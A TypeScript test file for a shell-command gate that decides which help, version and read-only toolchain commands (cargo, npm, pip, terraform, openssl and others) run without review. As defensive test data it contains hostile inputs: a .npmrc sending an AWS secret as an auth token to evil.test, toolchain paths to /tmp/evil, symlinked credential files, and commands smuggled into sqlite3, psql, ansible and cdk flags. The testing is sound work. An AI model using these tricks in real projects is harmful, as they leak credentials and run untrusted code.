// Help/version queries, language toolchains, database shells and infrastructure tools, proved on the
// compiled binary in real temporary git repositories: "allow" can only come from the fast path (no
// classifier credentials), every refusal must fall through to the classifier. The version-manager
// cases put rust-toolchain / .tool-versions files in the repository and in a directory above it.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type BinaryVerdict, ensureBinary, isolatedHome, put, verdictMismatches } from "../support/fastpath-binary.ts";
import { git } from "../support/git.ts";

const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-help-tc-")));
const { env } = isolatedHome();
afterAll(() => rmSync(work, { recursive: true, force: true }));
beforeAll(() => ensureBinary());

/** A git repository at `work/<name>/repo` (the parent `work/<name>` is outside it) with `files` written. */
function repo(name: string, files: Record<string, string> = {}, above: Record<string, string> = {}): string {
  const dir = join(work, name, "repo");
  mkdirSync(dir, { recursive: true });
  git(dir, "init", "-q", "-b", "feature/x");
  put(join(dir, "README.md"), "# r\n");
  put(join(dir, "Cargo.toml"), "[package]\nname = 'x'\nversion = '0.1.0'\n");
  put(join(dir, "sub", "x.txt"), "x\n");
  for (const [p, t] of Object.entries(files)) put(join(dir, p), t);
  for (const [p, t] of Object.entries(above)) put(join(work, name, p), t);
  return dir;
}

async function expectVerdicts(dir: string, cases: Record<string, BinaryVerdict>): Promise<void> {
  expect(await verdictMismatches(dir, cases, env)).toEqual([]);
}

const RUST_VERSION = ["cargo --version", "cargo -V", "rustc --version", "rustup --version", "cargo help"];
const all = (cmds: string[], v: BinaryVerdict) => Object.fromEntries(cmds.map((c) => [c, v]));

describe("rustup toolchain files", () => {
  test("no toolchain file: version queries are local", async () => {
    await expectVerdicts(repo("rust-none"), all(RUST_VERSION, "allow"));
  });

  test("a path toolchain in the repository root makes every rustup proxy unprovable", async () => {
    const dir = repo("rust-path-root", { "rust-toolchain.toml": '[toolchain]\npath = "./tc"\n' });
    await expectVerdicts(dir, { ...all(RUST_VERSION, "fallthrough"), "ls README.md": "allow" });
  });

  test("a path toolchain in a directory above the repository is found too", async () => {
    const dir = repo("rust-path-above", {}, { "rust-toolchain.toml": '[toolchain]\npath = "/tmp/evil"\n' });
    await expectVerdicts(dir, all(RUST_VERSION, "fallthrough"));
  });

  test("a release channel (with components, targets, profile) stays provable", async () => {
    const dir = repo("rust-channel", {
      "rust-toolchain.toml":
        '# pinned\n[toolchain]\nchannel = "1.79.0"\ncomponents = ["rustfmt", "clippy"]\ntargets = [ "wasm32-unknown-unknown" ]\nprofile = "minimal"\n',
    });
    await expectVerdicts(dir, all(RUST_VERSION, "allow"));
    const dated = repo("rust-dated", { "rust-toolchain.toml": "[toolchain]\nchannel = 'nightly-2024-05-01'\n" });
    await expectVerdicts(dated, all(RUST_VERSION, "allow"));
  });

  test("the legacy one-line file: a release name is fine, anything else is not", async () => {
    await expectVerdicts(repo("legacy-stable", { "rust-toolchain": "stable\n" }), all(RUST_VERSION, "allow"));
    await expectVerdicts(repo("legacy-ver", { "rust-toolchain": "1.70\n" }), all(RUST_VERSION, "allow"));
    for (const [name, text] of [
      ["legacy-custom", "my-linked-toolchain\n"],
      ["legacy-path", "/tmp/evil-toolchain\n"],
      ["legacy-rel", "../tc\n"],
      ["legacy-toml", '[toolchain]\npath = "tc"\n'],
      ["legacy-two", "stable\nnightly\n"],
    ] as const)
      await expectVerdicts(repo(name, { "rust-toolchain": text }), all(RUST_VERSION, "fallthrough"));
  });

  test("TOML that is not understood, or a channel that is not a release, is refused", async () => {
    const bodies = [
      '[toolchain]\nchannel = "stable"\npath = "tc"\n',
      '[toolchain]\nchannel = "../tc"\n',
      '[toolchain]\nchannel = "stable-x86_64-unknown-linux-gnu/../../tc"\n',
      'toolchain.path = "tc"\n',
      '[toolchain]\nchannel = """\nstable"""\n',
      '[toolchain]\nchannel = "st\\u0061ble"\n',
      '[toolchain]\ncomponents = [\n "rustfmt",\n]\n',
      '[toolchain.extra]\nchannel = "stable"\n',
      '[toolchain]\nchannel = "stable"\n[other]\npath = "tc"\n',
      '[ toolchain ]\npath = "tc"\n',
      '[toolchain]\n"path" = "tc"\n',
    ];
    for (const [i, body] of bodies.entries())
      await expectVerdicts(repo(`toml-${i}`, { "rust-toolchain.toml": body }), all(RUST_VERSION, "fallthrough"));
  });

  test("a toolchain file that is a symlink to a device or a directory is refused", async () => {
    const dev = repo("rust-dev");
    symlinkSync("/dev/zero", join(dev, "rust-toolchain.toml"));
    await expectVerdicts(dev, all(RUST_VERSION, "fallthrough"));
    const dirFile = repo("rust-dir");
    mkdirSync(join(dirFile, "rust-toolchain"));
    await expectVerdicts(dirFile, all(RUST_VERSION, "fallthrough"));
  });

  test("after cd into a directory holding a toolchain file", async () => {
    const dir = repo("rust-cd", { "sub/rust-toolchain.toml": '[toolchain]\npath = "tc"\n' });
    await expectVerdicts(dir, {
      "cd sub && cargo --version": "fallthrough",
      "cd sub; rustc -V": "fallthrough",
      "cargo --version": "allow",
      "cd sub && ls": "allow",
    });
  });

  test("reached through a symlinked path, the real ancestors are walked too (rustup uses getcwd)", async () => {
    const real = repo("rust-sym-real", {}, { "rust-toolchain.toml": '[toolchain]\npath = "/tmp/evil"\n' });
    mkdirSync(join(work, "rust-sym-link"));
    const logical = join(work, "rust-sym-link", "repo");
    symlinkSync(real, logical);
    await expectVerdicts(logical, { "cargo --version": "fallthrough", "rustc -V": "fallthrough", ls: "allow" });
  });

  test("through a wrapper or bash -c", async () => {
    const dir = repo("rust-wrapped", { "rust-toolchain": "/tmp/evil\n" });
    await expectVerdicts(dir, {
      "nice cargo --version": "fallthrough",
      "timeout 5 rustc --version": "fallthrough",
      "bash -c 'cargo -V'": "fallthrough",
      "nice ls": "allow",
    });
  });
});

describe("asdf .tool-versions", () => {
  test("plain versions keep programs provable", async () => {
    const dir = repo("asdf-plain", { ".tool-versions": "# pins\nnodejs 20.11.1\npython 3.12.2 system\nrust 1.79.0\n" });
    await expectVerdicts(dir, { "node --version": "allow", ls: "allow", "cargo --version": "allow" });
  });

  const bad = [
    "nodejs path:./bin\n",
    "nodejs ref:v20.0.0\n",
    "python path:/tmp/evil\n",
    "nodejs ../../../repo/evil\n",
    "nodejs 20/../../x\n",
    "nodejs\n",
    "../evil 1.0\n",
    "nodejs latest:20\n",
  ];
  test("a path:/ref: or path-like version leaves only builtins provable (in the repo)", async () => {
    for (const [i, body] of bad.entries())
      await expectVerdicts(repo(`asdf-bad-${i}`, { ".tool-versions": body }), {
        "node --version": "fallthrough",
        ls: "fallthrough",
        "git status": "fallthrough",
        "cat README.md": "fallthrough",
        "echo hi": "allow",
        pwd: "allow",
      });
  });

  test("and above the repository, or in a directory cd enters", async () => {
    await expectVerdicts(repo("asdf-above", {}, { ".tool-versions": "ruby path:/tmp/r\n" }), {
      "ruby --version": "fallthrough",
      "ls -la": "fallthrough",
      "echo ok": "allow",
    });
    await expectVerdicts(repo("asdf-cd", { "sub/.tool-versions": "nodejs path:../bin\n" }), {
      "cd sub && node --version": "fallthrough",
      "cd sub && cat x.txt": "fallthrough",
      "node --version": "allow",
    });
  });

  test("a .tool-versions that is not a small regular file is refused", async () => {
    const dir = repo("asdf-fifo");
    symlinkSync("/dev/zero", join(dir, ".tool-versions"));
    await expectVerdicts(dir, { ls: "fallthrough", "echo hi": "allow" });
  });
});

describe("help and version queries", () => {
  test("answered by the argument parser: provable", async () => {
    await expectVerdicts(
      repo("help-basic"),
      all(
        [
          "curl --help",
          "curl -h",
          "curl --version",
          "curl -V",
          "curl --manual",
          "curl -M",
          "wget --help",
          "wget -h",
          "wget --version",
          "ansible --help",
          "ansible -h",
          "ansible --version",
          "ansible all --help",
          "ansible-playbook --help",
          "ansible-playbook --version",
          "ansible-vault -h",
          "ansible-galaxy role --help",
          "ansible-galaxy collection list --help",
          "ansible-inventory --help",
          "ansible-doc -h",
          "ansible-pull --help",
          "ansible-config --help",
          "ansible-console -h",
          "psql --help",
          "psql --help=commands",
          "psql --version",
          "psql -V",
          "mysql --help",
          "mysql --version",
          "mysql -V",
          "sqlite3 -help",
          "sqlite3 --help",
          "sqlite3 -version",
          "duckdb --help",
          "duckdb -help",
          "duckdb -version",
          "sqlcmd --help",
          "sqlcmd -h",
          "sqlcmd --version",
          "sqlcmd query --help",
          "prometheus --help",
          "prometheus -h",
          "prometheus --help-long",
          "prometheus --help-man",
          "prometheus --version",
          "cdk --version",
          "cdk --help",
          "cdk -h",
          "cdk deploy --help",
          "cdk synth -h",
          "pre-commit help",
          "pre-commit help run",
          "pre-commit --version",
          "pre-commit -V",
          "pre-commit run --help",
          "pre-commit validate-config",
          "pre-commit validate-config README.md",
          "pre-commit validate-manifest README.md",
        ],
        "allow",
      ),
    );
  });

  test("anything beyond the help or version flag is refused", async () => {
    await expectVerdicts(
      repo("help-refused"),
      all(
        [
          "curl https://example.com",
          "curl https://example.com --help",
          "curl --version https://example.com",
          "curl -o out --help",
          "curl --help all",
          "curl -K cfg --help",
          "wget --spider https://example.com",
          "wget -O - https://example.com",
          "ansible all -m ping",
          "ansible all -m shell -a id --help",
          "ansible-playbook site.yml --help",
          "ansible-playbook site.yml --syntax-check",
          "ansible-inventory --list",
          "ansible-vault view secrets.yml",
          "ansible-doc ping",
          "ansible-config dump",
          "ansible-test --help",
          "ansible-lint --version",
          "ansible --version --help",
          "ansible-galaxy role install x --help",
          "psql -c 'SELECT 1'",
          "psql -l",
          "psql --version -c 'DROP TABLE t'",
          "mysql -?",
          "mysql -e 'SELECT 1'",
          "mysql -e 'DROP TABLE t' --help",
          "sqlite3 -readonly db.sqlite 'DROP TABLE users'",
          "sqlite3 -safe db.sqlite",
          "sqlite3 db.sqlite -version",
          "sqlite3 -cmd '.shell id' -version",
          "duckdb -c 'SELECT 1'",
          "duckdb :memory: 'SELECT 1'",
          "sqlcmd query 'SELECT 1'",
          "sqlcmd config view",
          "sqlcmd -Q 'SELECT 1' --help",
          "prometheus --config.file=prometheus.yml",
          "prometheus --web.listen-address=:9090 --help",
          "cdk version",
          "cdk synth",
          "cdk deploy",
          "cdk --app 'node evil.js' --help",
          "cdk deploy --app 'node evil.js' --help",
          "pre-commit",
          "pre-commit run",
          "pre-commit install",
          "pre-commit run --all-files --help",
          "pre-commit validate-config ../x.yaml",
          "pre-commit validate-config --help-me README.md",
          "yarn --version",
          "pnpm -v",
        ],
        "fallthrough",
      ),
    );
  });

  test("ansible with an ansible.cfg in the working directory is refused", async () => {
    const dir = repo("ansible-cfg", { "ansible.cfg": "[defaults]\nlog_path = /tmp/x.log\n" });
    await expectVerdicts(dir, {
      "ansible --version": "fallthrough",
      "ansible-playbook --help": "fallthrough",
      "cd sub && ansible --version": "fallthrough",
      "curl --version": "allow",
    });
    await expectVerdicts(repo("ansible-cfg-sub", { "sub/ansible.cfg": "[defaults]\n" }), {
      "ansible --version": "allow",
      "cd sub && ansible --version": "fallthrough",
    });
  });
});

describe("cargo", () => {
  test("per-verb help and the read-only verbs without a repository cargo config", async () => {
    await expectVerdicts(repo("cargo-verbs", { "Cargo.lock": "version = 3\n" }), {
      "cargo build --help": "allow",
      "cargo test -h": "allow",
      "cargo clippy --help": "fallthrough", // external cargo-clippy: a repository [alias] wins
      "cargo tree --locked": "allow",
      "cargo tree --frozen --depth 2 -e normal": "allow",
      "cargo tree --locked --invert serde": "allow",
      "cargo metadata --no-deps": "allow",
      "cargo metadata --format-version 1 --no-deps": "allow",
      "cargo metadata --locked --format-version=1": "allow",
      "cargo pkgid": "allow",
      "cargo verify-project": "allow",
      "cargo read-manifest": "allow",
      "cargo search serde": "allow",
      "cargo search --limit 20 tokio": "allow",
      "cargo build": "fallthrough",
      "cargo build --release --help": "fallthrough",
      "cargo check": "fallthrough",
      "cargo fmt --check": "fallthrough",
      "cargo doc": "fallthrough",
      "cargo tree": "fallthrough",
      "cargo metadata": "fallthrough",
      "cargo info serde": "fallthrough",
      "cargo foo --help": "fallthrough",
      "cargo tree --locked --config build.rustc=/tmp/x": "fallthrough",
      "cargo tree --locked -Zunstable-options": "fallthrough",
      "cargo metadata --no-deps --manifest-path ../outside/Cargo.toml": "fallthrough",
      "cargo tree --locked --target ../../x.json": "fallthrough",
      "cargo update --dry-run": "fallthrough",
    });
  });

  test("a repository .cargo/config(.toml), here or above, refuses the resolving verbs", async () => {
    const here = repo("cargo-config", { ".cargo/config.toml": '[build]\nrustc-wrapper = "./w.sh"\n' });
    await expectVerdicts(here, {
      "cargo tree --locked": "fallthrough",
      "cargo metadata --no-deps": "fallthrough",
      "cargo search serde": "fallthrough",
      "cargo pkgid": "fallthrough",
      "cargo --version": "allow",
      "cargo build --help": "allow",
    });
    const above = repo("cargo-config-above", {}, { ".cargo/config": '[build]\nrustc = "/tmp/evil"\n' });
    await expectVerdicts(above, { "cargo metadata --no-deps": "fallthrough", "cargo verify-project": "fallthrough" });
  });

  test("a symlinked Cargo.toml or Cargo.lock (a member, or a workspace root above) refuses the resolving verbs", async () => {
    const member = repo("cargo-member-link", { "Cargo.lock": "version = 3\n" });
    put(join(work, "cargo-member-link", "creds"), "[default]\naws_secret_access_key = abc\n");
    mkdirSync(join(member, "crates", "a"), { recursive: true });
    symlinkSync(join(work, "cargo-member-link", "creds"), join(member, "crates", "a", "Cargo.toml"));
    const cases: Record<string, BinaryVerdict> = {
      "cargo metadata --no-deps": "fallthrough",
      "cargo read-manifest": "fallthrough",
      "cargo tree --locked": "fallthrough",
      "cargo pkgid": "fallthrough",
      "cargo search serde": "allow",
      "cargo --version": "allow",
    };
    await expectVerdicts(member, cases);
    const lock = repo("cargo-lock-link");
    symlinkSync(join(work, "cargo-member-link", "creds"), join(lock, "Cargo.lock"));
    await expectVerdicts(lock, cases);
    const above = repo("cargo-root-above");
    symlinkSync(join(work, "cargo-member-link", "creds"), join(work, "cargo-root-above", "Cargo.toml"));
    await expectVerdicts(above, cases);
  });

  test("a .cargo/config.toml that is a symlink refuses even --version (a TOML error prints its lines)", async () => {
    const dir = repo("cargo-config-link");
    put(join(work, "cargo-config-link", "secret.txt"), "token = abc\n");
    mkdirSync(join(dir, ".cargo"));
    symlinkSync(join(work, "cargo-config-link", "secret.txt"), join(dir, ".cargo", "config.toml"));
    await expectVerdicts(dir, { "cargo --version": "fallthrough", "cargo build --help": "fallthrough" });
  });
});

describe("terraform and packer", () => {
  test("terraform: per-verb help, version, metadata functions, fmt in check mode", async () => {
    await expectVerdicts(repo("tf", { "main.tf": 'variable "x" {}\n' }), {
      "terraform plan --help": "allow",
      "terraform plan -help": "allow",
      "terraform apply -h": "allow",
      "terraform state list -help": "allow",
      "terraform workspace select -help": "allow",
      "terraform version": "allow",
      "terraform version -json": "allow",
      "terraform -version": "allow",
      "terraform metadata functions -json": "allow",
      "terraform fmt -check": "allow",
      "terraform fmt -check -diff -recursive": "allow",
      "terraform fmt -write=false main.tf": "allow",
      "terraform plan": "fallthrough",
      "terraform plan -out=plan.tfplan -help": "fallthrough",
      "terraform plan -var x=1 -help": "fallthrough",
      "terraform providers": "fallthrough",
      "terraform providers schema -json": "fallthrough",
      "terraform workspace list": "fallthrough",
      "terraform modules -json": "fallthrough",
      "terraform validate": "fallthrough",
      "terraform show": "fallthrough",
      "terraform state list": "fallthrough",
      "terraform output": "fallthrough",
      "terraform console": "fallthrough",
      "terraform fmt": "fallthrough",
      "terraform fmt -diff": "fallthrough",
      "terraform fmt -check ../": "fallthrough",
      "terraform init -help -upgrade": "fallthrough",
    });
  });

  test("fmt's walk: a symlink out or a secret below refuses it", async () => {
    const linked = repo("tf-link", { "main.tf": "\n" });
    put(join(work, "tf-link", "outside.tf"), "x = 1\n");
    symlinkSync(join(work, "tf-link", "outside.tf"), join(linked, "sub", "evil.tf"));
    await expectVerdicts(linked, {
      "terraform fmt -check": "fallthrough",
      "terraform fmt -check sub": "fallthrough",
      "terraform fmt -check main.tf": "allow",
      "packer fmt -check .": "fallthrough",
      "terraform -chdir=sub fmt -check": "fallthrough",
    });
    await expectVerdicts(repo("tf-secret", { "sub/.env": "K=1\n" }), {
      "terraform fmt -check": "fallthrough",
      "packer fmt -check -recursive .": "fallthrough",
    });
  });

  test("packer: help/version and fmt without writing", async () => {
    await expectVerdicts(repo("packer", { "t.pkr.hcl": 'source "null" "x" {}\n' }), {
      "packer --help": "allow",
      "packer -help": "allow",
      "packer --version": "allow",
      "packer version": "allow",
      "packer build -help": "allow",
      "packer fmt -check t.pkr.hcl": "allow",
      "packer fmt -write=false t.pkr.hcl": "allow",
      "packer fmt -check -diff t.pkr.hcl": "allow",
      "packer fmt -check -recursive .": "allow",
      "packer fmt t.pkr.hcl": "fallthrough",
      "packer fmt -diff t.pkr.hcl": "fallthrough",
      "packer validate t.pkr.hcl": "fallthrough",
      "packer inspect t.pkr.hcl": "fallthrough",
      "packer console": "fallthrough",
      "packer plugins installed": "fallthrough",
      "packer init .": "fallthrough",
      "packer build t.pkr.hcl": "fallthrough",
      "packer build -force -help": "fallthrough",
    });
  });

  test("packer with a packer-plugin-* in the working directory is refused (packer < 1.11 runs it)", async () => {
    const dir = repo("packer-plugin", { "packer-plugin-evil": "#!/bin/sh\n" });
    await expectVerdicts(dir, {
      "packer --version": "fallthrough",
      "packer --help": "fallthrough",
      "cd sub && packer --version": "fallthrough",
    });
    await expectVerdicts(repo("packer-plugin-sub", { "sub/packer-plugin-x": "#!/bin/sh\n" }), {
      "packer --version": "allow",
      "cd sub && packer --version": "fallthrough",
      "cd sub && terraform --version": "allow",
    });
  });
});

describe("npm and pip", () => {
  const PKG = { "package.json": '{"name":"x","version":"1.0.0","scripts":{"build":"node evil.js"}}\n' };
  test("local reads, and registry reads without a project .npmrc", async () => {
    await expectVerdicts(repo("npm-clean", PKG), {
      "npm pkg get": "allow",
      "npm pkg get name": "allow",
      "npm pkg get name version": "allow",
      "npm run": "allow",
      "npm run --list": "allow",
      "npm run-script": "allow",
      "npm help-search install": "allow",
      "npm sbom": "allow",
      "npm sbom --sbom-format cyclonedx": "allow",
      "npm completion": "allow",
      "npm access list packages": "allow",
      "npm access list collaborators lodash": "allow",
      "npm access get status lodash": "allow",
      "npm dist-tag ls": "allow",
      "npm dist-tag ls lodash": "allow",
      "npm profile get": "allow",
      "npm profile get email": "allow",
      "npm stars": "allow",
      "npm stars username": "allow",
      "npm whoami": "allow",
      "npm view lodash": "allow",
      "npm run build": "fallthrough",
      "npm run build --list": "fallthrough",
      "npm run --list build": "fallthrough",
      "npm run -- build": "fallthrough",
      "npm pkg set name=y": "fallthrough",
      "npm pkg delete scripts": "fallthrough",
      "npm outdated": "fallthrough",
      "npm doctor": "fallthrough",
      "npm diff": "fallthrough",
      "npm pack --dry-run": "fallthrough",
      "npm find-dupes": "fallthrough",
      "npm docs lodash": "fallthrough",
      "npm home react": "fallthrough",
      "npm token list": "fallthrough",
      "npm cache ls": "fallthrough",
      "npm access grant read-only org:team pkg": "fallthrough",
      "npm dist-tag add x@1 latest": "fallthrough",
      "npm profile set email a@b": "fallthrough",
      "npm view lodash --registry=https://evil.test/": "fallthrough",
      "npm whoami --userconfig=./u": "fallthrough",
      "npm sbom --sbom-format cyclonedx --output-file x": "fallthrough",
    });
  });

  test("a project .npmrc (here or above) refuses every npm verb (redteam-toolchains.test.ts: why)", async () => {
    const npmrc = { ".npmrc": "registry=https://evil.test/\n//evil.test/:_authToken=$" + "{AWS_SECRET_ACCESS_KEY}\n" };
    const cases: Record<string, BinaryVerdict> = {
      "npm view lodash": "fallthrough",
      "npm search lodash": "fallthrough",
      "npm audit": "fallthrough",
      "npm ping": "fallthrough",
      "npm whoami": "fallthrough",
      "npm dist-tag ls lodash": "fallthrough",
      "npm access list packages": "fallthrough",
      "npm stars": "fallthrough",
      "npm profile get": "fallthrough",
      "npm owner ls lodash": "fallthrough",
      "npm pkg get name": "fallthrough",
      "npm ls": "fallthrough",
      "npm run": "fallthrough",
    };
    await expectVerdicts(repo("npmrc-here", { ...PKG, ...npmrc }), cases);
    await expectVerdicts(repo("npmrc-above", PKG, npmrc), cases);
    await expectVerdicts(repo("npmrc-sub", { ...PKG, "sub/.npmrc": npmrc[".npmrc"] }), {
      "npm view lodash": "allow",
      "cd sub && npm view lodash": "fallthrough",
    });
  });

  test("pip: cache, debug, index versions without another index", async () => {
    await expectVerdicts(repo("pip"), {
      "pip cache dir": "allow",
      "pip cache info": "allow",
      "pip cache list": "allow",
      "pip cache list requests": "allow",
      "pip cache list --format=abspath": "allow",
      "pip debug": "allow",
      "pip debug --verbose": "allow",
      "pip index versions requests": "allow",
      "pip index versions requests --platform linux_x86_64": "allow",
      "pip3 cache dir": "allow",
      "pip cache purge": "fallthrough",
      "pip cache remove requests": "fallthrough",
      "pip config list": "fallthrough",
      "pip config get global.index-url": "fallthrough",
      "pip config debug": "fallthrough",
      "pip index versions requests --index-url https://evil.test/simple/": "fallthrough",
      "pip index versions requests --extra-index-url=https://evil.test/": "fallthrough",
      "pip debug --log /tmp/x": "fallthrough",
      "pip list --path /tmp/env": "fallthrough",
      "pip cache list --cache-dir /tmp/c": "fallthrough",
    });
  });
});

describe("openssl certificate decoders", () => {
  test("a certificate-named -in file inside the repository is provable, whatever the option order", async () => {
    const pem = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
    const dir = repo("openssl", {
      "cert.pem": pem,
      "certs/ca.crt": pem,
      "req.csr": pem,
      id_rsa: "k\n",
      ".ssh/c.pem": pem,
    });
    put(join(work, "openssl", "outside.pem"), pem);
    symlinkSync(join(work, "openssl", "outside.pem"), join(dir, "out.pem"));
    symlinkSync("id_rsa", join(dir, "key.pem"));
    await expectVerdicts(dir, {
      "openssl x509 -in cert.pem -noout -text": "allow",
      "openssl x509 -noout -text -in cert.pem": "allow",
      "openssl x509 -noout -fingerprint -sha256 -in cert.pem": "allow",
      "openssl x509 -noout -subject -issuer -dates -in certs/ca.crt": "allow",
      "openssl x509 -noout -text": "allow",
      "openssl req -in req.csr -noout -text": "allow",
      "cd certs && openssl x509 -in ca.crt -noout -enddate": "allow",
      "openssl x509 -in out.pem -noout -text": "fallthrough",
      "openssl x509 -in key.pem -noout -text": "fallthrough",
      "openssl x509 -in .ssh/c.pem -noout": "fallthrough",
      "openssl x509 -in ../outside.pem -noout": "fallthrough",
      "openssl x509 -in cert.pem -noout -in id_rsa": "fallthrough",
      "openssl x509 -in cert.pem -out copy.pem": "fallthrough",
      "openssl x509 -in *.pem -noout": "fallthrough",
      "openssl x509 -in $HOME/cert.pem -noout": "fallthrough",
      "openssl rsa -in cert.pem -text": "fallthrough",
      "openssl pkey -in cert.pem": "fallthrough",
      "cat cert.pem": "fallthrough",
      "openssl s_client -connect example.com:443": "fallthrough",
      "nice openssl x509 -in cert.pem -noout": "fallthrough",
    });
  });
});
